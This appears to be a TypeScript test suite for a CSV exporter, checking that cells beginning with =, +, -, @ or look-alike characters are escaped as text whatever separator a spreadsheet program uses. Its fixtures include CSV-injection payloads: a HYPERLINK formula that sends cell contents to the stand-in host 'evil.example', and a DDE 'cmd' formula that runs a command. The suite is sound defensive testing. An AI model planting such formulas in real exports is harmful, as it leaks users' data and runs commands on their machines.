import * as fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { anyText } from '#/test/any-text.ts'
import { escapeFormula, toCsv } from './csv.ts'

/**
 * Splits a file into cells at `separators`, as Excel does: a quote is special only at the start of a cell, and text
 * after the closing quote belongs to the cell. If `honorsQuotes` is false, quotes are ordinary characters.
 */
function parseCells(csv: string, separators: string, honorsQuotes = true): string[] {
  const cells: string[] = []
  let index = 0
  while (index < csv.length) {
    let cell = ''
    if (honorsQuotes && csv[index] === '"') {
      index += 1
      while (index < csv.length && (csv[index] !== '"' || csv[index + 1] === '"')) {
        cell += csv[index]
        index += csv[index] === '"' ? 2 : 1
      }
      index += 1
    }
    while (index < csv.length && !`${separators}\r\n`.includes(csv.charAt(index))) {
      cell += csv[index]
      index += 1
    }
    index += csv.startsWith('\r\n', index) ? 2 : 1
    cells.push(cell)
  }
  return cells
}

/** Negative numbers aren't formulas, even before a closing quote. */
const isFormula = (cell: string): boolean =>
  /^[\s\0\u200b]*[=+\-@\uff1d\uff0b\uff0d\uff20]/.test(cell) &&
  !/^[\s\0]*-\d+(?:\.\d+)?"?$/.test(cell)

const findFormulas = (csv: string): string[] =>
  [',', ';', '\t', '|', ',;\t']
    .flatMap((separators) => [
      ...parseCells(csv, separators),
      ...parseCells(csv, separators, false),
    ])
    .filter(isFormula)

describe('CSV', () => {
  it.each([
    ['=HYPERLINK("https://evil.example/?x="&A1,"open")'],
    ["=cmd|'/c calc'!A0"],
    ['+1+1'],
    ['-2+3'],
    ['@SUM(1,1)'],
    ['\0=1+1'],
    ['＝1+1'],
    ['﹦1+1'],
    [' =1+1'],
    ['\u200b=1+1'],
    ['|x'],
  ])('P12 writes the formula %j as text', (text) => {
    const cell = escapeFormula(text)
    expect(cell).toMatch(/^'/)
    expect(cell.replaceAll("'", '')).toBe(text.replaceAll("'", ''))
  })

  it.each([
    ['x;=1+1;y', "x;'=1+1;y"],
    ['x\r\n@SUM(1,1)', "x\r\n'@SUM(1,1)"],
    ['x,=1+1,y', "x,'=1+1,y"],
    ['x; =1+1;y', "x; '=1+1;y"],
    ['x;"=1+1";y', `x;"'=1+1";y`],
    ['=1;=2', "'=1;'=2"],
    ['\t=1+1', "'\t'=1+1"],
  ])('P12 writes the formula in %j as text, whatever separator a program uses', (text, escaped) => {
    expect(escapeFormula(text)).toBe(escaped)
    expect(findFormulas(toCsv(['host', 'note'], [['a.example', text]]))).toEqual([])
  })

  it.each([
    "'quoted'",
    'a; b, c - d',
    'northbank-1.example',
    '2026-11-20T08:00:00.000Z',
    '2001:0:0:0:1:2:3:4',
    '[1.5,-2,-3e-7]',
    '[{"score":-5,"phone":"+49 30 1234"}]',
  ])('leaves the text %j unchanged', (text) => {
    expect(escapeFormula(text)).toBe(text)
  })

  it('keeps JSON valid when it escapes formulas in it', () => {
    const value = { note: 'x;=1+1', list: ['=1', '-2+3', 'a,-b'], phones: ['+49', '+50'] }
    expect(JSON.parse(escapeFormula(JSON.stringify(value)))).toEqual({
      ...value,
      note: "x;'=1+1",
      list: ['=1', '-2+3', "a,'-b"],
    })
  })

  it('writes quotes, separators and line breaks inside a quoted cell', () => {
    expect(toCsv(['host', 'note'], [['a.example', 'a,"b"\r\nc;d']])).toBe(
      'host,note\r\na.example,"a,""b""\r\nc;d"\r\n',
    )
  })

  it('writes numbers and booleans without quotes, and missing values as empty cells', () => {
    expect(toCsv(['a', 'b', 'c', 'd', 'e'], [[-5, 0.25, true, null, Number.NaN]])).toBe(
      'a,b,c,d,e\r\n-5,0.25,true,,\r\n',
    )
  })

  it('takes linear time for long text', () => {
    const length = 100_000
    const began = performance.now()
    for (const part of [' ', '\t', ';', '"', '1', '-', '=', 'e', '1.', ';"', '1 '])
      for (const last of ['', 'x', '!']) escapeFormula(part.repeat(length / part.length) + last)
    expect(performance.now() - began).toBeLessThan(2000)
  })

  it('contains exactly the escaped texts, and no cell is a formula', () => {
    const text = fc.oneof(
      anyText(),
      fc.string({ unit: fc.constantFrom(...Array.from('=+-@"\',;|\t\r\n\0 a1＝')) }),
    )
    const table = fc
      .integer({ min: 1, max: 5 })
      .chain((width) =>
        fc.array(fc.array(text, { minLength: width, maxLength: width }), { minLength: 1 }),
      )
    fc.assert(
      fc.property(table, (rows) => {
        const [header = [], ...rest] = rows
        const escapedRows = rows.map((row) => row.map(escapeFormula))
        const csv = toCsv(header, rest)
        expect(parseCells(csv, ',')).toEqual(escapedRows.flat())
        expect(findFormulas(csv)).toEqual([])
      }),
    )
  })
})
